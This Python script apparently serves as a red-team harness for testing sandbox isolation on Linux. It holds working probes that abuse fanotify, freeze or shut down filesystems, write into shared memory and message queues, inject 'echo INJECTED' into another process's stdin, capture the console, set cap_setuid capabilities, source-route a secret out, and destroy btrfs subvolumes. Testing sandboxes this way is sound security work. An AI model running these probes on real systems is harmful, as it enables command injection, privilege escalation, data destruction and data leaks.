"""Fourth round of the red team: each attack prints what it got."""
import ctypes, fcntl, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
what = sys.argv[1]
if what == "fanotify":  # FILE: a notification class, events' files opened for writing
    libc.fanotify_mark.argtypes = [ctypes.c_int, ctypes.c_uint, ctypes.c_uint64, ctypes.c_int,
                                   ctypes.c_char_p]
    fd = libc.fanotify_init(0, os.O_RDWR)
    if fd < 0:
        print("fanotify_init", os.strerror(ctypes.get_errno()))
        sys.exit(0)
    libc.fanotify_mark(fd, 1, 0x20, -100, sys.argv[2].encode())  # FAN_MARK_ADD, FAN_OPEN
    open(sys.argv[2]).close()
    event = os.read(fd, 4096)
    got = struct.unpack_from("IBBHQii", event)[5]
    os.lseek(got, 0, 2)
    print("fanotify wrote", os.write(got, b"written through fanotify\n"))
elif what == "fanotify-read":  # FILE: watching, with read-only files, still works
    libc.fanotify_mark.argtypes = [ctypes.c_int, ctypes.c_uint, ctypes.c_uint64, ctypes.c_int,
                                   ctypes.c_char_p]
    fd = libc.fanotify_init(0, os.O_RDONLY)
    libc.fanotify_mark(fd, 1, 0x20, -100, sys.argv[2].encode())
    open(sys.argv[2]).close()
    got = struct.unpack_from("IBBHQii", os.read(fd, 4096))[5]
    print("fanotify read", os.read(got, 100))
elif what == "freeze":  # DIR: FIFREEZE, FS_IOC_SHUTDOWN on a descriptor opened for reading
    fd = os.open(sys.argv[2], os.O_RDONLY)
    for name, cmd, arg in (("freeze", 0xC0045877, 0), ("thaw", 0xC0045878, 0),
                           ("shutdown", 0x8004587D, struct.pack("I", 2))):
        try: fcntl.ioctl(fd, cmd, arg); print(name, "ok")
        except OSError as e: print(name, e.strerror)
elif what == "shmat":  # SHMID [ro]: attach a segment and write into it
    libc.shmat.restype = ctypes.c_void_p
    ro = len(sys.argv) > 3
    p = libc.shmat(int(sys.argv[2]), None, 0o10000 if ro else 0)  # SHM_RDONLY
    if p is None or p == ctypes.c_void_p(-1).value:
        print("shmat", os.strerror(ctypes.get_errno()))
    elif ro:
        print("shmat read", ctypes.string_at(p, 8))
    else:
        ctypes.memmove(p, b"WRITTEN!", 8)
        print("shmat wrote")
elif what == "own-shm":  # a segment the session makes is its own to write
    libc.shmat.restype = ctypes.c_void_p
    ident = libc.shmget(0, 4096, 0o1600)
    p = libc.shmat(ident, None, 0)
    ctypes.memmove(p, b"mine", 4)
    print("own-shm", ctypes.string_at(p, 4))
    libc.shmctl(ident, 0, None)
elif what == "listen":  # a TCP socket never bound, then one bound to loopback
    for family in (socket.AF_INET, socket.AF_INET6):
        s = socket.socket(family)
        try: s.listen(); print("listen", s.getsockname()[:2])
        except OSError as e: print("listen", e.strerror)
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen()
    c = socket.create_connection(s.getsockname())
    a, _ = s.accept()
    c.send(b"loopback")
    print("loopback", a.recv(8))
elif what == "pipe":  # PID: write into its standard input (a pipe) through /proc
    try:
        fd = os.open(f"/proc/{sys.argv[2]}/fd/0", os.O_WRONLY)
        print("pipe wrote", os.write(fd, b"echo INJECTED\n"))
    except OSError as e:
        print("pipe", e.strerror)
elif what == "mqueue":  # NAME: open a service's queue to send into it, then remove it
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    q = rt.mq_open(sys.argv[2].encode(), os.O_WRONLY)
    if q < 0: print("mq_open", os.strerror(ctypes.get_errno()))
    else: print("mq_send", rt.mq_send(q, b"INJECTED", 8, 0))
    r = rt.mq_unlink(sys.argv[2].encode())
    print("mq_unlink", "ok" if r == 0 else os.strerror(ctypes.get_errno()))
elif what == "own-mqueue":  # NAME: a queue the session makes new is its own
    rt = ctypes.CDLL("librt.so.1", use_errno=True)
    name = sys.argv[2].encode()
    q = rt.mq_open(name, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600, None)
    buf = ctypes.create_string_buffer(8192)
    rt.mq_send(q, b"mine", 4, 0)
    n = rt.mq_receive(q, buf, 8192, None)
    print("own-mqueue", buf.raw[:n])
elif what == "console":  # a terminal of its own made the machine's console
    import termios, time
    m, s = os.openpty()
    try: fcntl.ioctl(s, termios.TIOCCONS); print("console ok")
    except OSError as e: print("console", e.strerror)
    print("ready", flush=True)
    time.sleep(1)
    os.set_blocking(m, False)
    try: print("captured", os.read(m, 4096))
    except BlockingIOError: print("captured nothing")
elif what == "setcap":  # FILE: cap_setuid=ep through setxattr and fsetxattr, then a user.* one
    blob = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)  # VFS_CAP_REVISION_2, effective
    for name, target in (("setcap", sys.argv[2]), ("fsetcap", os.open(sys.argv[2], os.O_RDONLY))):
        try: os.setxattr(target, "security.capability", blob); print(name, "ok")
        except OSError as e: print(name, e.strerror)
    os.setxattr(sys.argv[2], "user.note", b"plain"); print("user xattr ok")
elif what == "route":  # HOP PORT: loopback sends routed through HOP (IP source routing)
    hop, port = sys.argv[2], int(sys.argv[3])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS,
                     bytes([1, 131, 7, 4]) + socket.inet_aton(hop))  # NOP, LSRR HOP
        print("lsrr ok")
    except OSError as e: print("lsrr", e.strerror)
    print("sent", s.sendto(b"SECRET-THROUGH-LOOPBACK", ("127.0.0.1", port)))
    s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    srh = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "::ffff:" + hop)
    try: s6.setsockopt(socket.IPPROTO_IPV6, 57, srh); print("rthdr ok")  # IPV6_RTHDR
    except OSError as e: print("rthdr", e.strerror)
    t = socket.socket()
    t.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 0x10)
    print("other options ok")
elif what == "subvol":  # DIR NAME: BTRFS_IOC_SNAP_DESTROY on the folder, opened for reading
    fd = os.open(sys.argv[2], os.O_RDONLY | os.O_DIRECTORY)
    args = bytearray(struct.pack("q4088s", 0, sys.argv[3].encode()))  # btrfs_ioctl_vol_args
    try: fcntl.ioctl(fd, 0x5000940F, args); print("subvol destroyed")
    except OSError as e: print("subvol", e.strerror)
